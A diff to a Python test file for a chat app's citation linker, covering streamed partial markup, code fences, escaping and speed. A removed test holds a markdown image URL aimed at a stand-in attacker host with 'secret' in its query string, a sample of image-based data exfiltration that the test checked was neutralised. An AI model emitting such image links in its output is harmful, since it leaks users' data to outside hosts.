@@ -1,9 +1,10 @@
 import random
+import time
 
 import pytest
 
 from chat_app.research.evidence import Source
-from chat_app.transcript.citations import linked, without_open_citation
+from chat_app.transcript.citations import linked
 from tests.research.trails import source
 
 THREAD = "thread/1"
@@ -15,7 +16,7 @@ def shown(text: str) -> str:
 
 
 def shown_while_growing(text: str) -> str:
-    return shown(without_open_citation(text))
+    return linked(text, SOURCES, THREAD, is_growing=True)
 
 
 def test_numbers_become_links_to_their_sources() -> None:
@@ -27,9 +28,7 @@ def test_a_file_of_the_library_is_shown_on_a_page_of_its_own() -> None:
     assert shown("So [7].") == "So [\\[7\\]](/rc/source/thread%2F1/7)."
 
 
-@pytest.mark.parametrize(
-    "text", ["So [9].", "`[3]`", "```\n[3]\n```", r"\[3]", "[3](https://b.example/)", "[3]: https://b.example/"]
-)
+@pytest.mark.parametrize("text", ["So [9].", "`[3]`", "```\n[3]\n```", r"\[3]", "- [ ] to do", "He said [sic] so."])
 def test_what_is_no_citation_of_a_source_stays_as_written(text: str) -> None:
     assert shown(text) == text
 
@@ -79,14 +78,22 @@ def test_colons_that_the_page_would_take_for_directives_are_escaped(text: str, r
         ("So [3][", "So [3]"),
         ("So [3] [5", "So [3] "),
         ("a key:", "a key"),
-        ("[3]:", ""),
+        ("[3]:", "\\[3\\]"),
+        ("see http", "see "),
+        ("see https://a.exam", "see "),
+        ("see https://a.example/b", "see https://a.example/b"),
+        ("a < b <", "a < b "),
+        ("mail a@b.exa", "mail a@b.exa"),
+        ("mail a@b", "mail a"),
+        ("- ```py", "- "),
+        ("a && b &am", "a && b "),
         ("[a page](https://a.exam", ""),
         ("[a page](https://a.example/)", "[a page](https://a.example/)"),
         ("- [x] done", "- [x] done"),
         ("He said [sic", "He said "),
         ("He said [sic\n", "He said [sic\n"),
-        ("a `b", "a `b"),
-        ("a `b[3] c", "a `b"),
+        ("a `b", "a "),
+        ("a `b[3] c", "a "),
         ("a `b[3] c\n", "a `b[3] c\n"),
         ("a `b[3]` [3", "a `b[3]` "),
         ("```\na[3", "```\na[3"),
@@ -94,12 +101,12 @@ def test_colons_that_the_page_would_take_for_directives_are_escaped(text: str, r
     ],
 )
 def test_nothing_half_written_is_shown(text: str, decided: str) -> None:
-    assert without_open_citation(text) == decided
+    assert shown_while_growing(text) == shown(decided)
 
 
 def test_a_bracket_that_never_closes_does_not_hold_the_report_back() -> None:
     text = "A set [0, ∞) is half open" + " and so on" * 30
-    assert without_open_citation(text) == text
+    assert shown_while_growing(text) == shown(text)
 
 
 REPORT = """\
@@ -144,14 +151,40 @@ def test_what_is_shown_of_a_growing_text_only_grows_whatever_it_is_made_of() -> 
 
 
 def test_a_growing_report_is_shown_with_little_delay() -> None:
-    held_back = [length - len(without_open_citation(REPORT[:length])) for length in range(len(REPORT) + 1)]
-    assert max(held_back) < len(REPORT.splitlines()[-1])
-    assert sum(held_back) / len(held_back) < 6
+    held_back = [
+        len(shown(REPORT[:length])) - len(shown_while_growing(REPORT[:length])) for length in range(len(REPORT) + 1)
+    ]
+    assert max(held_back) < 2 * len(REPORT.splitlines()[-1])  # as shown, with the addresses of the sources
+    assert sum(held_back) / len(held_back) < 20
 
 
-def test_a_picture_becomes_a_link() -> None:
-    assert (
-        linked("See ![chart](https://evil.example/?q=secret).", (), "t")
-        == "See \\![chart](https://evil.example/?q=secret)."
+def test_a_code_block_in_a_list_stays_as_it_is() -> None:
+    text = (
+        '1. Run this:\n   ```json\n   {"a": [\n     1, "<b>", "x:y", "c@d.example"\n   ]}\n   ```\n   Then [3]: done.\n'
     )
-    assert linked("`![a](b)`", (), "t") == "`![a](b)`"
+    assert shown(text) == text.replace("[3]", "[\\[3\\]](https://page3.example/)")
+
+
+def test_a_fence_that_ends_with_its_quote_or_item_hides_nothing_after_it() -> None:
+    for opening in ("> ```\n> code\n", "- ```\n  code\n", "1. a\n\n   ~~~\n   code\n"):
+        assert shown(f"{opening}\n[x](/rc/share/1)\n") == f"{opening}\nx\n"
+
+
+def test_a_long_report_is_shown_fast_while_it_grows() -> None:
+    paragraph = "It is cold in winter, as `ice` shows: see [a page](https://a.example/b) and more [3][5]. " * 8
+    section = f"## Weather\n\n{paragraph}\n\n- one [3]\n- two https://a.example/x [5]\n\n```py\nx[3]\n```\n\n"
+    text = section * (40_000 // len(section))
+    shown_while_growing(text)
+    before = time.process_time()
+    for end in range(len(text) - 200, len(text)):
+        shown_while_growing(text[:end])
+    assert (time.process_time() - before) / 200 < 0.005
+
+
+@pytest.mark.parametrize(
+    "piece", ["[", "![", "[a", "[a](", "`a", "<", "&", "\\", "- ```\n", "http://", "a@b", "](", "|`a|"]
+)
+def test_a_text_of_nothing_but_beginnings_is_shown_in_bearable_time(piece: str) -> None:
+    before = time.process_time()
+    shown(piece * (100_000 // len(piece)))
+    assert time.process_time() - before < 3
